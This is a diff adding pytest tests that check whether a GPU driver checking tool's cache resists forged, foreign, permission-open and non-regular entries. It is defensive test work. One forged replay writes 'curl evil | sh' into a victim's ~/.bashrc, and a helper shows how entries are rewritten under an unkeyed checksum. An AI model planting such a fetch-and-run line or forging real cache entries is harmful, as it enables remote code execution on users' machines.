@@ -1,0 +1,188 @@
+"""Forged and foreign cache entries (issue 23, issue 14's cache bullet): a cached result carries
+findings only; this run's arguments decide every write and the exit code; an entry is bound to
+its inputs by a keyed MAC; a directory or entry another user could have written is not used;
+an entry that is a link, a FIFO or a device is a miss, never a read."""
+
+from __future__ import annotations
+
+import hashlib
+import hmac
+import marshal
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from gpudrv_check import cache as cache_mod
+from gpudrv_check.cache import Cache
+from tests.conftest import MATRIX, gpu_node, run_cli, write
+
+
+def _repo(root: Path) -> Path:
+    write(root, "nodes/a.yaml", gpu_node("a"))
+    write(root, "nodes/b.yaml", gpu_node("b", kernel="5.15.0-999-generic"))  # GPU001: exit 1
+    write(root, "support-matrix.csv", MATRIX)
+    return root
+
+
+def _check(root: Path, cache: Path, *extra: str, env: dict | None = None):
+    return run_cli("check", str(root), "--cache-dir", str(cache), *extra, env=env)
+
+
+def _forge(cache: Path, value: object) -> int:
+    """Rewrite every result entry as an attacker who can write the directory would: the same
+    header, the value replaced, the unkeyed SHA-256 of the payload recomputed."""
+    forged = 0
+    for entry in cache.glob("result-*"):
+        blob = entry.read_bytes()
+        version, key, _ = marshal.loads(blob[40:])
+        payload = marshal.dumps((version, key, value))
+        entry.write_bytes(blob[:8] + hashlib.sha256(payload).digest() + payload)
+        forged += 1
+    return forged
+
+
+def test_a_forged_result_entry_writes_nothing_and_decides_no_exit_code(tmp_path: Path):
+    """The attack of issue 23: a planted entry replaying a write to the victim's ~/.bashrc, an
+    "all clean" summary and exit 0 (or 7). The next plain `check` must do none of it."""
+    home = tmp_path / "home"
+    home.mkdir()
+    bashrc = home / ".bashrc"
+    bashrc.write_text("# the victim's own\n")
+    env = {**os.environ, "HOME": str(home)}
+    root, cache = _repo(tmp_path / "repo"), tmp_path / "cache"
+    cold = _check(root, cache, env=env)
+    assert cold.returncode == 1, cold.stderr
+    replay = [("stdout", "", "all clean\n"), ("file", str(bashrc), "curl evil | sh\n")]
+    for code in (0, 7):
+        assert _forge(cache, (code, replay)) == 1
+        warm = _check(root, cache, env=env)
+        assert bashrc.read_text() == "# the victim's own\n"
+        assert (warm.returncode, warm.stdout) == (1, cold.stdout)
+
+
+def test_an_entry_with_a_valid_mac_still_directs_no_write(tmp_path: Path):
+    """Even an authentic entry holds no destination: a warm run writes its reports where its
+    own --output says, and its exit code follows its own --fail-on."""
+    root, cache = _repo(tmp_path / "repo"), tmp_path / "cache"
+    out = tmp_path / "out.json"
+    cold = _check(root, cache, "--format", "json", "--output", str(out))
+    assert cold.returncode == 1
+    first = out.read_text()
+    out.unlink()
+    warm = _check(root, cache, "--format", "json", "--output", str(out))
+    assert (warm.returncode, warm.stdout, out.read_text()) == (1, cold.stdout, first)
+    value = Cache(cache).load("result", "x", "y")
+    assert value is None  # another name, another key: a miss
+    # the stored value: findings, stderr, rendered texts; no destination, no exit code
+    (entry,) = cache.glob("result-*")
+    stored = marshal.loads(entry.read_bytes()[40:])[2]
+    assert str(out) not in repr(stored)
+    assert not any(isinstance(v, int) for v in stored)
+
+
+def test_the_secret_is_private_and_the_checksum_keyed(tmp_path: Path):
+    cache = Cache(tmp_path / "c")
+    cache.store("files", "repo", "key", {"a": 1})
+    secret = tmp_path / "c" / cache_mod.SECRET
+    assert secret.stat().st_mode & 0o777 == 0o600
+    assert len(secret.read_bytes()) == 32
+    assert cache.load("files", "repo", "key") == {"a": 1}
+    # another secret: every entry is a miss (and rewritten by the next store)
+    secret.write_bytes(os.urandom(32))
+    assert Cache(tmp_path / "c").load("files", "repo", "key") is None
+
+
+@pytest.mark.parametrize("mode", [0o777, 0o770, 0o722])
+def test_a_cache_directory_open_to_others_is_not_used(tmp_path: Path, mode: int):
+    root, cache = _repo(tmp_path / "repo"), tmp_path / "cache"
+    cache.mkdir()
+    cache.chmod(mode)
+    proc = _check(root, cache)
+    assert proc.returncode == 1
+    assert proc.stderr.count("is not used") == 1, proc.stderr  # said once, not per entry
+    assert f"cache {cache} is not used" in proc.stderr and "chmod 700" in proc.stderr
+    assert list(cache.iterdir()) == []  # nothing written into it either
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another user needs root")
+def test_a_cache_directory_or_entry_of_another_user_is_not_used(tmp_path: Path):
+    root, cache = _repo(tmp_path / "repo"), tmp_path / "cache"
+    cold = _check(root, cache)
+    os.chown(cache, 65534, 65534)
+    proc = _check(root, cache)
+    assert (proc.returncode, proc.stdout) == (cold.returncode, cold.stdout)
+    assert proc.stderr.count("owned by another user (uid 65534)") == 1, proc.stderr
+    os.chown(cache, 0, 0)
+    for entry in cache.glob("result-*"):
+        os.chown(entry, 65534, 65534)
+    proc = _check(root, cache)
+    assert "owned by another user" in proc.stderr and proc.stdout == cold.stdout
+
+
+def test_entries_open_to_others_are_said_once(tmp_path: Path):
+    """A cache restored with mode 0644 entries (say, by a CI cache step): not used, one line."""
+    root, cache = _repo(tmp_path / "repo"), tmp_path / "cache"
+    cold = _check(root, cache)
+    for entry in cache.iterdir():
+        entry.chmod(0o644)
+    proc = _check(root, cache)
+    assert (proc.returncode, proc.stdout) == (cold.returncode, cold.stdout)
+    assert proc.stderr.count("is not used") == 1, proc.stderr
+    assert "chmod 600" in proc.stderr
+
+
+def test_an_entry_readable_by_others_is_not_used(tmp_path: Path):
+    cache = Cache(tmp_path / "c")
+    cache.store("files", "repo", "key", {"a": 1})
+    (entry,) = (tmp_path / "c").glob("files-*")
+    entry.chmod(0o644)
+    assert cache.load("files", "repo", "key") is None
+
+
+@pytest.mark.parametrize("kind", ["symlink", "fifo", "device"])
+def test_an_entry_that_is_not_a_regular_file_is_a_miss(tmp_path: Path, kind: str):
+    """Replaced by a link (to an entry that would verify, or to /dev/zero), a FIFO (a read
+    would block forever) or a device: a miss, never a read."""
+    cache = Cache(tmp_path / "c")
+    cache.store("files", "repo", "key", {"a": 1})
+    (entry,) = (tmp_path / "c").glob("files-*")
+    real = entry.with_name("elsewhere.bin")
+    entry.rename(real)
+    if kind == "symlink":
+        entry.symlink_to(real)
+    elif kind == "fifo":
+        os.mkfifo(entry, 0o600)
+    elif os.geteuid() == 0:
+        os.mknod(entry, stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero itself
+    else:
+        entry.symlink_to("/dev/zero")
+    assert cache.load("files", "repo", "key") is None  # returns: a FIFO does not block it
+
+
+@pytest.mark.parametrize(
+    "value",
+    [["not", "a", "dict"], {"nodes/a.yaml": "str"}, {"nodes/a.yaml": ("d", False, b"x", 7)}, 42],
+    ids=["list", "str-entry", "bad-summary", "int"],
+)
+def test_an_authentic_entry_of_the_wrong_type_is_a_miss(tmp_path: Path, value: object):
+    """Every kind of entry (files, partitions, result) holding a value of the wrong type: the
+    run is the same as without a cache, with no internal error."""
+    root, cache = _repo(tmp_path / "repo"), tmp_path / "cache"
+    cold = _check(root, cache)
+    # `touch` one file so the result entry is a miss and the files/partitions entries are read
+    store = Cache(cache)
+    for entry in cache.glob("*-*.bin"):
+        kind = entry.name.split("-")[0]
+        blob = entry.read_bytes()
+        version, key, _ = marshal.loads(blob[40:])
+        payload = marshal.dumps((version, key, value))
+        secret = (cache / cache_mod.SECRET).read_bytes()
+        mac = hmac.new(secret, payload, hashlib.sha256).digest()
+        entry.write_bytes(blob[:8] + mac + payload)
+        assert kind in ("files", "partitions", "result")
+    assert store.load("result", "x", "y") is None
+    proc = _check(root, cache)
+    assert (proc.returncode, proc.stdout) == (cold.returncode, cold.stdout), proc.stderr
+    assert "internal error" not in proc.stderr and "Traceback" not in proc.stderr
